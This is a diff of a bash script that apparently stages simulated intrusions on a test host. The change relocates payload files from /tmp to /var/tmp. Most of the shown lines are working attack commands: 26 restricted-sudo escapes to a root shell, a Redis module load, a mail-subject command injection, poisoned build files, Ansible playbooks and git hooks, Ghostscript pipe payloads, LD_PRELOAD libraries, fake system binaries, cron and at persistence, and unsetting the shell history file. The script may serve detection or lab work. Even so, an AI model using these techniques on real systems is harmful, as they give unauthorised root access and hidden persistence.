@@ -88,34 +88,34 @@ terminal() {
 
 # sudo_escape: one way from a restricted sudo to a root shell, with the token in its arguments.
 sudo_escape() {
-	local t=/tmp/.$T q
+	local t=/var/tmp/.$T q
 	printf -v q %q ": $T; $1"
 	case $((RANDOM % 26)) in
 	0) REPLY="sudo find /etc/hostname -exec sh -c $q \\;" ;;
 	1) REPLY="sudo vim -es -c ':!sh -c $(printf %q "$q")' -c ':q!' $t" ;;
 	2) REPLY="sudo awk 'BEGIN {system(ARGV[1])}' $q" ;;
-	3) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='sh /tmp/.s$T'" ;;
-	4) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="LESSOPEN='' sudo less /etc/services +'!sh /tmp/.s$T'" ;;
+	3) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='sh /var/tmp/.s$T'" ;;
+	4) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="LESSOPEN='' sudo less /etc/services +'!sh /var/tmp/.s$T'" ;;
 	5) REPLY="sudo python3 -c 'import os,sys; os.execl(\"/bin/sh\",\"sh\",\"-c\",sys.argv[1])' $q" ;;
 	6) REPLY="sudo perl -e 'exec(\"/bin/sh\",\"-c\",\$ARGV[0])' $q" ;;
 	7) REPLY="sudo env /bin/sh -c $q" ;;
-	8) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo git -c core.pager='sh /tmp/.s$T' -p --help config" ;;
-	9) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo man -P 'sh /tmp/.s$T' ls" ;;
-	10) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo make -s --eval=\$'x:\\n\\t-sh /tmp/.s$T' x" ;;
-	11) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo rsync -e 'sh /tmp/.s$T' x:/dev/null /dev/null" ;;
-	12) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo zip -q /tmp/.$T.zip /etc/hosts -T -TT 'sh /tmp/.s$T #'" ;;
+	8) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo git -c core.pager='sh /var/tmp/.s$T' -p --help config" ;;
+	9) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo man -P 'sh /var/tmp/.s$T' ls" ;;
+	10) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo make -s --eval=\$'x:\\n\\t-sh /var/tmp/.s$T' x" ;;
+	11) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo rsync -e 'sh /var/tmp/.s$T' x:/dev/null /dev/null" ;;
+	12) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo zip -q /tmp/.$T.zip /etc/hosts -T -TT 'sh /var/tmp/.s$T #'" ;;
 	13) REPLY="sudo flock -u / /bin/sh -c $q" ;;
 	14) REPLY="sudo nice /bin/sh -c $q" ;;
 	15) REPLY="sudo timeout 20 /bin/bash -c $q" ;;
 	16) REPLY="sudo xargs -a /dev/null sh -c $q" ;;
-	17) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo gdb -nx -batch -ex '!sh /tmp/.s$T'" ;;
+	17) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo gdb -nx -batch -ex '!sh /var/tmp/.s$T'" ;;
 	18) REPLY="sudo ruby -e 'exec \"/bin/sh\",\"-c\",ARGV[0]' $q" ;;
 	19) REPLY="sudo node -e 'require(\"child_process\").spawnSync(\"/bin/sh\",[\"-c\",process.argv[1]],{stdio:\"inherit\"})' $q" ;;
-	20) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo expect -c 'spawn sh /tmp/.s$T; expect eof'" ;;
-	21) echo "$1" >"$dir/root/tmp/.s$T"; REPLY="sudo tmux -L .$T new-session -d 'sh /tmp/.s$T'" ;;
+	20) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo expect -c 'spawn sh /var/tmp/.s$T; expect eof'" ;;
+	21) echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="sudo tmux -L .$T new-session -d 'sh /var/tmp/.s$T'" ;;
 	22) REPLY="sudo script -qc $q /dev/null" ;;
 	23) REPLY="echo ': $T; sh -c $q' | sudo tee /etc/cron.d/.$T; sudo env sh -c $q" ;;
-	24) printf '/tmp/.r%s {\n size 0\n prerotate\n  sh /tmp/.s%s\n endscript\n}\n' "$T" "$T" >"$dir/root/etc/logrotate.d/.$T"; echo "$1" >"$dir/root/tmp/.s$T"; REPLY="echo $T >/tmp/.r$T; sudo logrotate -f /etc/logrotate.d/.$T" ;;
+	24) printf '/tmp/.r%s {\n size 0\n prerotate\n  sh /var/tmp/.s%s\n endscript\n}\n' "$T" "$T" >"$dir/root/etc/logrotate.d/.$T"; echo "$1" >"$dir/root/var/tmp/.s$T"; REPLY="echo $T >/tmp/.r$T; sudo logrotate -f /etc/logrotate.d/.$T" ;;
 	25) REPLY="sudo apt-get -q update -o APT::Update::Pre-Invoke::=$q" ;;
 	esac
 }
@@ -146,7 +146,7 @@ cgi() {
 	fi
 }
 
-so() { mv "$(compiled "$(preloadable "$1")" -nostdlib -shared -fPIC)" "$dir/root/tmp/.$T.so"; }
+so() { mv "$(compiled "$(preloadable "$1")" -nostdlib -shared -fPIC)" "$dir/root/var/tmp/.$T.so"; }
 
 # strike: one attack on one of the weaknesses the host's roles have, with COMMAND (dressed) or its bare PAYLOAD.
 strike() {
@@ -182,10 +182,10 @@ strike() {
 	redis)
 		what="module loaded into an open Redis runs a shell: $short"
 		so "$cmd"
-		net chroot "$client" timeout 12 redis-cli module load "/tmp/.$T.so" ;;
+		net chroot "$client" timeout 12 redis-cli module load "/var/tmp/.$T.so" ;;
 	mail)
 		what="mail subject evaluated by an alias program: $short"
-		printf 'From: x\nTo: help\nSubject: $(sh -c %s)\n\nx\n' "$q" | net curl -s -m 8 --mail-from x@localhost --mail-rcpt help@localhost -T - smtp://127.0.0.1 ;;
+		printf 'From: x@localhost\nTo: help\nSubject: $(sh -c %s)\n\nx\n' "$q" | net curl -s -m 8 --mail-from x@localhost --mail-rcpt help@localhost -T - smtp://127.0.0.1/localhost ;;
 	ci)
 		what="poisoned build: $short"
 		one_of "printf 'all:\\n\\t-@%s\\n' ${q//\$/\$\$} >Makefile; make" "printf 'import os\\nos.system(open(\"x\").read())\\n' >setup.py; printf '%s' $q >x; python3 setup.py install -$T" "printf '#!/bin/sh\\n%s\\n' $q >configure; sh ./configure --id=$T" "git init -q .; printf '#!/bin/sh\\n%s\\n' $q >.git/hooks/post-commit; chmod +x .git/hooks/post-commit; git -c user.name=x -c user.email=x commit -q --allow-empty -m $T"
@@ -193,18 +193,18 @@ strike() {
 		sleep 8 ;;
 	cm)
 		what="poisoned playbook: $short"
-		printf -- '- hosts: localhost\n  connection: local\n  gather_facts: false\n  tasks:\n    - shell: |\n        %s\n' "$cmd" >"$dir/root/tmp/.$T.yml"
-		as root "ansible-playbook -i localhost, /tmp/.$T.yml" ;;
+		printf -- '- hosts: localhost\n  connection: local\n  gather_facts: false\n  tasks:\n    - shell: |\n        %s\n' "$cmd" >"$dir/root/var/tmp/.$T.yml"
+		as root "ansible-playbook -i localhost, /var/tmp/.$T.yml" ;;
 	desk)
-		echo "$cmd" >"$dir/root/tmp/.$T"
+		echo "$cmd" >"$dir/root/var/tmp/.$T"
 		if ((RANDOM % 2)); then
 			what="document viewer (xpdf, told through its remote control to run a command) starts a shell: $short"
 			cp "$dir/root/srv/docs/guide.pdf" "$dir/root/home/carol/inbox/invoice$count.pdf"
 			sleep 10
-			as carol "DISPLAY=:7 xpdf -remote x -exec 'run(sh /tmp/.$T)'"
+			as carol "DISPLAY=:7 xpdf -remote x -exec 'run(sh /var/tmp/.$T)'"
 		else
 			what="opened PostScript document runs a pipe (Ghostscript without its safer mode): $short"
-			printf '%%!PS\n(%%pipe%%sh /tmp/.%s) (r) file closefile\nquit\n' "$T" >"$dir/root/home/carol/inbox/invoice$count.ps"
+			printf '%%!PS\n(%%pipe%%sh /var/tmp/.%s) (r) file closefile\nquit\n' "$T" >"$dir/root/home/carol/inbox/invoice$count.ps"
 			sleep 10
 		fi ;;
 	mon)
@@ -219,9 +219,9 @@ strike() {
 	sudo) sudo_escape "$bare"; what="restricted sudo escaped, ${REPLY:5:40}...: $short"; terminal deploy "$REPLY" ;;
 	rcfile)
 		what="intruder's own shell at a terminal: $short"
-		echo 'unset HISTFILE' >"$dir/root/tmp/.$T"
+		echo 'unset HISTFILE' >"$dir/root/var/tmp/.$T"
 		one_of 'id' 'w' 'ls -la /root'
-		terminal deploy "exec bash --rcfile /tmp/.$T -i" "$bare" "$REPLY" "sudo -n -l" ;;
+		terminal deploy "exec bash --rcfile /var/tmp/.$T -i" "$bare" "$REPLY" "sudo -n -l" ;;
 	cron)
 		what="planted cron entry: $short"
 		as root "echo '* * * * * root sh -c \": $T; id\"; : $T' >/etc/cron.d/z$T"
@@ -233,20 +233,20 @@ strike() {
 		so "$cmd"
 		one_of ls date id hostname w ps
 		what="exploited /bin/$REPLY (library preloaded into it) starts a shell: $short"
-		as bob "LD_PRELOAD=/tmp/.$T.so $REPLY" ;;
+		as bob "LD_PRELOAD=/var/tmp/.$T.so $REPLY" ;;
 	fakels)
 		one_of ls ps netstat update sshd crond
 		what="program pretending to be $REPLY starts a shell: $short"
-		mkdir -p "$dir/root/tmp/.$T" && chmod 777 "$dir/root/tmp/.$T"
+		mkdir -p "$dir/root/var/tmp/.$T" && chmod 777 "$dir/root/var/tmp/.$T"
 		mv "$(compiled "#include <stdlib.h>
-int main(){return system($(quoted "$cmd"))!=0;}" -static)" "$dir/root/tmp/.$T/$REPLY"
-		as bob "/tmp/.$T/$REPLY -la" ;;
+int main(){return system($(quoted "$cmd"))!=0;}" -static)" "$dir/root/var/tmp/.$T/$REPLY"
+		as bob "/var/tmp/.$T/$REPLY -la" ;;
 	at) what="command left with at: $short"; as deploy "echo 'sh -c '$(printf %q "$q") | at now"; sleep 3 ;;
 	gs)
 		what="document whose PostScript opens a pipe (Ghostscript without its safer mode): $short"
-		echo "$bare" >"$dir/root/tmp/.$T"
-		printf '%%!PS\n(%%pipe%%sh /tmp/.%s) (r) file closefile\nquit\n' "$T" >"$dir/root/tmp/invoice$count.ps"
-		one_of "gs -q -dNOSAFER -dNODISPLAY -dBATCH /tmp/invoice$count.ps" "ps2pdf -dNOSAFER /tmp/invoice$count.ps /tmp/o.pdf"
+		echo "$bare" >"$dir/root/var/tmp/.$T"
+		printf '%%!PS\n(%%pipe%%sh /var/tmp/.%s) (r) file closefile\nquit\n' "$T" >"$dir/root/var/tmp/invoice$count.ps"
+		one_of "gs -q -dNOSAFER -dNODISPLAY -dBATCH /var/tmp/invoice$count.ps" "ps2pdf -dNOSAFER /var/tmp/invoice$count.ps /tmp/o.pdf"
 		as carol "$REPLY" ;;
 	make)
 		what="poisoned Makefile in a developer's checkout: $short"
